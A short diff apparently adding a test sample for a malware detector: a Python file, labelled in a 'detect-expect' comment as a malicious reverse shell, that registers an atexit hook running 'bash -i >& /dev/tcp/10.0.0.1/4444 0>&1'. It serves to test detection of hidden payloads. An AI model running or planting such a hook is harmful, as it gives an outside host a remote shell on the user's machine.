@@ -0,0 +1,6 @@
+# 通过atexit在解释器退出时执行反弹shell
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import atexit
+import os
+
+atexit.register(os.system, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")